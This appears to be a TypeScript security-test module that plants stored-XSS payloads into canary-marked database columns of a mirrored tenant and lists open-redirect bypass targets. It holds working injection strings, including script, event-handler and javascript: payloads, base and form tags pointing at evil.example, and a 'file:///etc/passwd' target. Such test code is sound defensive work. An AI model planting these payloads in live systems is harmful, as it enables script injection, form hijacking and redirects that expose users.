// Texts that become code where somebody glues them into a page (G-XSS-1).
// None has quotes or backslashes: they fit into JSON as they are.
import type { World } from '../world.ts';

/** Whatever a payload makes carries this attribute. */
export const MARK = 'data-jtx';

export const payloads: readonly string[] = [
  `<img src=x ${MARK} onerror=alert(1)>`,
  `<svg ${MARK} onload=alert(1)>`,
  `<script ${MARK}>alert(1)</script>`,
  `<a ${MARK} href=javascript:alert(1)>x</a>`,
  `<iframe ${MARK} srcdoc=x></iframe>`,
  `<b ${MARK}>굵게</b>`,
  `</title><b ${MARK}>`,
  `</textarea><b ${MARK}>`,
  `--><b ${MARK}>`,
  `]]><b ${MARK}>`,
  `<style ${MARK}>*{display:none}</style>`,
  `<base ${MARK} href=//evil.example>`,
  `<form ${MARK} action=//evil.example><input>`,
  `<meta ${MARK} http-equiv=refresh content=0>`,
  `<math><mtext><b ${MARK}>`,
  `<details ${MARK} open ontoggle=alert(1)>`,
  `&lt;b ${MARK}&gt;&#60;b&#62;`,
  `{{constructor.constructor(1)}}<b ${MARK}>`,
  `javascript:alert(1)//<b ${MARK}>`,
  `=cmd|calc!A0<b ${MARK}>`,
];

interface Column {
  table: string;
  name: string;
  type: string;
}

/**
 * Columns in which the mirrored tenant has a mark: every free text that there is, of domains to come, too.
 */
async function markedColumns(world: World): Promise<Column[]> {
  const all = await world.sql<Column>(
    `select c.table_name as "table", c.column_name as name, c.data_type as type
      from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
      where c.table_schema = 'public' and t.table_type = 'BASE TABLE' and c.is_generated = 'NEVER'
        and c.data_type in ('text', 'jsonb')`,
  );
  const marked: Column[] = [];
  for (const column of all) {
    const found = await world.sql(
      `select 1 from "${column.table}" where "${column.name}"::text like '%CANARY_B_%' limit 1`,
    );
    if (found.length > 0) marked.push(column);
  }
  return marked;
}

/** Where a column has a limit, the short ones fit: as many as can be. */
const LENGTHS = [Infinity, 34, 22, 16];

async function put(world: World, { table, name, type }: Column, texts: readonly string[]): Promise<void> {
  const payload = `($1::text[])[1 + (abs(hashtext(ctid::text)) % ${texts.length})] || substr(md5(ctid::text), 1, 6)`;
  const text = `regexp_replace("${name}"::text, 'CANARY_B_[0-9a-f]{8}', ${payload}, 'g')`;
  await world.sql(
    `update "${table}" set "${name}" = ${type === 'jsonb' ? `(${text})::jsonb` : `${text}`} where "${name}"::text like '%CANARY_B_%'`,
    [texts],
  );
}

/**
 * Every mark becomes one of the payloads, and a few digits where values
 * must differ. Answers how many columns that were, and those that refused.
 */
export async function plant(world: World): Promise<{ columns: number; refused: string[] }> {
  const columns = await markedColumns(world);
  const refused: string[] = [];
  for (const column of columns) {
    let refusal: Error | null = null;
    for (const most of LENGTHS) {
      refusal = await put(
        world,
        column,
        payloads.filter((p) => p.length <= most),
      ).then(
        () => null,
        (error: Error) => error,
      );
      if (!refusal) break;
    }
    if (refusal) refused.push(`${column.table}.${column.name}: ${refusal.message}`);
  }
  return { columns: columns.length, refused };
}

/** Addresses to be led to, none of which is our own. */
export const foreignTargets: readonly string[] = [
  'https://evil.example',
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '/%09/evil.example',
  'https:evil.example',
  'https:/evil.example',
  'http://localhost@evil.example',
  'http://localhost.evil.example',
  '/.//evil.example',
  '/..//evil.example',
  '//evil.example/%2f..',
  '/%5cevil.example',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://evil.example/x',
  'vbscript:x',
  'file:///etc/passwd',
  'ftp://evil.example',
  '//%65vil.example',
  '/\u2028/evil.example',
  '//evil。example',
  'https://evil.example#localhost',
  'x://y',
];
